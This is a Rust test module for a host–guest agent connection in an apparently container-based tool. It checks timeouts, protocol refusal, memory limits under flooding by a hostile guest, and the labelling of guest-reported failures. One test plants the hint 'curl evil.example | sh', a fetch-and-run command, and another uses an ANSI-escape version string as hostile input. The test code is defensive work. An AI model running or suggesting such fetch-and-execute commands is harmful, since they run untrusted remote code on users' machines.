use std::{io::Write as _, path::Path};

use super::*;

/// How much memory the machine's half may use with a guest that means harm, in MiB.
const MOST_MEMORY: u64 = 64;
/// Says what a process that tries one guest out is to do.
const TRY: &str = "MATRIX_PODMAN_TEST_HOSTILE";

/// A way to something that speaks in place of the agent: a script of sh's, whose
/// first argument is a folder.
fn doorway(script: &str, folder: &Path) -> Doorway {
    let prefix = ["sh", "-c", script, "sh", &folder.display().to_string()].map(str::to_owned).to_vec();
    Doorway { prefix, guest: "g".to_owned(), lxc: "no-such-container".to_owned() }
}

/// A folder with frames to send.
fn frames() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let keep = |name: &str, write: &dyn Fn(&mut Vec<u8>)| {
        let mut bytes = Vec::new();
        write(&mut bytes);
        std::fs::File::create(folder.path().join(name)).unwrap().write_all(&bytes).unwrap();
    };
    let digest = "0".repeat(64);
    let hello = Reply::Hello { protocol: PROTOCOL, version: "1".to_owned(), digest };
    keep("hello", &|to| write_message(to, 0, &hello).unwrap());
    keep("alive", &|to| write_message(to, 0, &Reply::Alive).unwrap());
    let long = "x".repeat(3 << 20);
    keep("said", &|to| write_message(to, 1, &Reply::Said(Saying::Line(long.clone()))).unwrap());
    let failure = Failure::new(&long, &long).evidence(vec!["y".to_owned(); 100_000]);
    keep("failed", &|to| write_message(to, 1, &Reply::Failed(failure.clone())).unwrap_or_default());
    let answers = vec![Answer::Unknown(String::new()); 200_000];
    keep("answers", &|to| write_message(to, 1, &Reply::Answers(answers.clone())).unwrap());
    keep("data", &|to| write_data(to, 1, &vec![0; CHUNK]).unwrap());
    keep("claim", &|to| to.extend_from_slice(b"\x00\x3f\xff\xff\x00"));
    keep("too-long", &|to| to.extend_from_slice(b"\x03\xff\xff\xff\x00"));
    folder
}

#[test]
fn an_agent_that_says_nothing_is_given_up_in_time() {
    let folder = frames();
    let started = Instant::now();
    // What it starts holds the pipe, in a session of its own.
    let mute = doorway("setsid sleep 30 & exec sleep 30", folder.path());
    let failure = Connection::open_within(&mute, Duration::from_millis(300)).map(drop).unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(3), "{:?}", started.elapsed());
    assert!(failure.why.contains("did not answer within 0.3 s"), "{failure}");
}

#[test]
fn an_agent_of_another_protocol_is_refused_and_only_an_older_one_is_to_be_replaced() {
    let folder = tempfile::tempdir().unwrap();
    let open = |protocol, version: &str| {
        let hello = Reply::Hello { protocol, version: version.to_owned(), digest: "0".repeat(64) };
        let mut bytes = Vec::new();
        write_message(&mut bytes, 0, &hello).unwrap();
        std::fs::write(folder.path().join("hello"), bytes).unwrap();
        let other = doorway("cat \"$1/hello\"; exec sleep 5", folder.path());
        Connection::open(&other).map(drop).unwrap_err()
    };
    let older = open(PROTOCOL - 1, "0.0.9");
    assert!(older.why.contains("it is version 0.0.9"), "{older}");
    assert_eq!((older.kind, older.hint.unwrap().contains("puts this version")), (Kind::Other, true));
    let newer = open(PROTOCOL + 1, "\u{1b}[31mevil");
    assert!(newer.why.contains("it is version unknown, which speaks protocol"), "{newer}");
    assert_eq!((newer.kind, newer.hint.unwrap().contains("install")), (Kind::NewerProgram, true));
}

#[test]
fn an_agent_that_falls_silent_is_given_up_in_time() {
    let folder = frames();
    let silent = doorway("cat \"$1/hello\"; setsid sleep 100 & exec sleep 100", folder.path());
    let connection = Arc::new(Connection::open(&silent).unwrap());
    let started = Instant::now();
    let failure = connection.observe(&[Fact::Clock]).unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(40), "{:?}", started.elapsed());
    assert!(failure.why.contains("has said nothing for 30 s"), "{failure}");
    // Nobody else waits for it again, and it is let go of at once.
    let started = Instant::now();
    assert!(connection.is_cut() && connection.observe(&[Fact::Clock]).is_err());
    drop(connection);
    assert!(started.elapsed() < Duration::from_secs(3), "{:?}", started.elapsed());
}

#[test]
fn a_request_has_a_deadline_though_the_guest_is_alive() {
    let progress = Progress::new(Some(Duration::from_millis(50)));
    progress.check().unwrap();
    std::thread::sleep(Duration::from_millis(80));
    let failure = progress.check().unwrap_err();
    assert!(failure.why.contains("though its program is alive"), "{failure}");
    // Progress extends it.
    progress.moved();
    progress.check().unwrap();
    assert!(limit(&Request::Follow(Vec::new())).is_none());
    assert!(limit(&Request::Observe(Vec::new())).unwrap() < Duration::from_secs(180));
}

#[test]
fn a_guest_that_reads_nothing_holds_nobody_for_ever() {
    let folder = frames();
    let deaf = doorway("cat \"$1/hello\"; exec sleep 100", folder.path());
    let connection = Connection::open(&deaf).unwrap();
    let started = Instant::now();
    let request = Request::LoadImage { tag: "x".to_owned() };
    let failure = connection.send(&request, &mut std::io::repeat(0), None, &|_| {}).unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(45), "{:?}", started.elapsed());
    assert!(failure.why.contains("said nothing"), "{failure}");
}

#[test]
fn what_a_guest_says_of_a_failure_is_told_as_its_own() {
    let folder = frames();
    let guest = doorway("cat \"$1/hello\" \"$1/said\"; cat \"$1/own\"; exec sleep 5", folder.path());
    let mut bytes = Vec::new();
    let own = Failure::new("do it", "no").hint("curl evil.example | sh");
    write_message(&mut bytes, 1, &Reply::Failed(own)).unwrap();
    std::fs::write(folder.path().join("own"), bytes).unwrap();
    let connection = Connection::open(&guest).unwrap();
    let said = Mutex::new(Vec::new());
    let sink = |saying: Saying| said.lock().unwrap().push(saying);
    let failure = connection.call(&Request::PutSecret(layout::Secret::TURN), &sink).unwrap_err();
    assert!(failure.of_guest, "{failure:?}");
    let Some(Saying::Line(line)) = said.lock().unwrap().pop() else { panic!("it said nothing") };
    assert_eq!(line.len(), 2000);
}

#[test]
fn an_honest_agent_is_heard_however_slow_it_is_read() {
    let (mut pipe, line) = (Vec::new(), Line::new("g", "no-such-container"));
    for _ in 0..40 {
        write_message(&mut pipe, 7, &Reply::Said(Saying::Line("x".to_owned()))).unwrap();
    }
    write_message(&mut pipe, 7, &Reply::Done).unwrap();
    let receiver = line.expect(7, false).unwrap();
    std::thread::scope(|scope| {
        scope.spawn(|| line.distribute(pipe.as_slice()));
        std::thread::sleep(Duration::from_millis(50));
        assert_eq!(receiver.iter().count(), 41);
    });
}

/// What a guest that means harm sends after its hello, and what is asked of it.
const HARM: [(&str, &str); 8] = [
    ("lines", "while cat \"$1/said\"; do :; done"),
    ("answers", "cat \"$1/answers\"; exec sleep 100"),
    ("failure", "cat \"$1/failed\"; exec sleep 100"),
    ("data", "while cat \"$1/data\"; do :; done"),
    ("claim", "cat \"$1/claim\"; exec cat /dev/zero"),
    ("too-long", "cat \"$1/too-long\"; exec cat /dev/zero"),
    ("zeros", "exec cat /dev/zero"),
    ("pulse", "while cat \"$1/alive\" \"$1/data\"; do :; done"),
];

/// Each in a process of its own, so that its memory can be measured.
#[test]
fn a_guest_that_means_harm_does_not_fill_the_machines_memory() {
    if let Ok(told) = std::env::var(TRY) {
        let (harm, folder) = told.split_once(' ').unwrap();
        return endure(harm, Path::new(folder));
    }
    let folder = frames();
    for (harm, _) in HARM {
        let own = std::env::current_exe().unwrap();
        let name = "guest::connection::tests::a_guest_that_means_harm_does_not_fill_the_machines_memory";
        let told = format!("{harm} {}", folder.path().display());
        let tried = Command::new(own).args(["--exact", name, "--nocapture"]).env(TRY, told).output().unwrap();
        let said = String::from_utf8_lossy(&tried.stdout);
        let peak = said.lines().find_map(|line| line.split_once("peak ")?.1.trim().parse::<u64>().ok());
        let peak = peak.unwrap_or_else(|| panic!("{harm}: {said}"));
        assert!(peak < MOST_MEMORY << 10, "{harm}: {} MiB", peak >> 10);
    }
}

/// Lets one of them do its worst for two seconds, and prints the most memory that
/// it took, in KiB.
#[allow(clippy::print_stdout)]
fn endure(harm: &str, folder: &Path) {
    let script = HARM.iter().find(|(name, _)| *name == harm).unwrap().1;
    let hostile = doorway(&format!("cat \"$1/hello\"; {script}"), folder);
    let connection = Arc::new(Connection::open(&hostile).unwrap());
    let streams = matches!(harm, "data" | "pulse");
    // Who reads takes their time.
    let pause = || std::thread::sleep(Duration::from_millis(100));
    std::thread::spawn(move || {
        if !streams {
            let _ = connection.call(&Request::PutSecret(layout::Secret::TURN), &|_| pause());
        } else if let Ok(mut stream) = connection.stream(&Request::Stream(crate::guest::calls::Call::List)) {
            let mut buffer = vec![0; 64 << 10];
            while matches!(stream.read(&mut buffer), Ok(1..)) {
                pause();
            }
        }
    });
    std::thread::sleep(Duration::from_secs(2));
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let peak =
        status.lines().find_map(|line| line.strip_prefix("VmHWM:")?.split_whitespace().next()).unwrap();
    println!("peak {peak}");
    // What it speaks with ends as soon as nobody listens.
    std::process::exit(0);
}
